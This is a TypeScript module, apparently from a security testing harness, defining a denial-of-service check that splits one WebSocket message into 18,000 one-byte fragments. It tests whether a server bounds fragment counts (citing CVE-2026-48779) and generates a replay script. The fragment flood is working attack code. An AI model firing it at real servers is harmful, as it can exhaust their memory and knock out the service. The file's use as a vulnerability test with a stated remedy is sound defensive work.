import { encodeFrame, OPCODE } from '../../../target/wire/index.ts'
import { defineAttack } from '../../attack.ts'
import { inconclusive, resisted, vulnerable } from '../../judge.ts'
import { control, openWitness } from '../../kit/attempt.ts'
import { attackerSession } from '../../kit/event-steps.ts'
import { messagePacket } from '../../kit/flood.ts'
import { messages } from '../../sends.ts'

/** ws takes 16,384 since 8.21 (CVE-2026-48779); here that many and some more. */
const fragments = 18_000

export default defineAttack({
  id: 'dos/ws-tiny-fragments',
  rows: ['dos.ws.tiny-fragments'],
  title: 'One message in eighteen thousand fragments of a byte or none: is each of them kept until the last?',
  requirement: 'CVE-2026-48779: the number of fragments of one message has a bound, not their bytes alone',
  impact: 'Each fragment costs an object many times its size: small messages that never end fill the memory.',
  remedy: 'Keep ws at 8.21 or later (npm ls ws); do not raise maxFragments.',
  severity: 'high',
  cwe: ['CWE-770'],
  references: ['CVE-2026-48779', 'RFC 6455 section 5.4'],
  provenBy: 'old-ws',
  needs: ['websocket', 'textPackets'],
  effect: 'disrupt',
  holds: 'account',
  loud: true,
  sends: messages(fragments),
  async run(context) {
    const witness = await openWitness(context)
    /** The same message in so many pieces; whether it is heard. */
    const heardIn = async (pieces: number) => {
      const session = await attackerSession(context, { transport: 'websocket' })
      const text = context.canary()
      const packet = Buffer.from(messagePacket(context, text, 7))
      const frames = Array.from({ length: pieces }, (_, i) => {
        const isLast = i === pieces - 1
        // A byte each, and what is left in the last; behind the end there is none.
        const payload = packet.subarray(i, isLast ? undefined : i + 1)
        return encodeFrame({ opcode: i === 0 ? OPCODE.text : OPCODE.continuation, fin: isLast, payload })
      })
      session.engine.sendFrame(Buffer.concat(frames))
      const heard = (await witness.heard(text, context.settleMs)) !== undefined
      const end = session.end === undefined ? 'its connection goes on' : `its connection ended: ${session.end.how}`
      context.note('received', `a message in ${pieces} fragments: ${heard ? 'heard' : 'not heard'}; ${end}`)
      session.kill()
      return heard
    }
    if (!(await heardIn(2))) return inconclusive('a message in two fragments is not heard', context.evidence)
    const kept = await heardIn(fragments)
    const last = await control(context, 'an honest client', witness)
    const { attacker, victim, canary } = context
    context.recording.written(({ value, door }) => {
      const says = (pieces: number, text: string) =>
        `await inPieces(${pieces}, ${value(messagePacket(context, text, 7))})\nawait hears(listener, ${value(text)})`
      return `const listener = await connect(${door({ token: victim.token })}, true)
/** A byte in each, and what is left in the last. */
async function inPieces(pieces, packet) {
  const { manager } = await connect(${door({ token: attacker.token, transport: 'websocket' })}, true)
  for (let i = 0; i < pieces; i++) {
    const isLast = i === pieces - 1
    manager.engine.transport.ws.send(packet.slice(i, isLast ? undefined : i + 1), { fin: isLast, compress: false })
  }
}
${says(2, canary())}
${says(fragments, canary())}`
    })
    return kept ? vulnerable(context.evidence) : resisted(last.observation, context.evidence)
  },
})
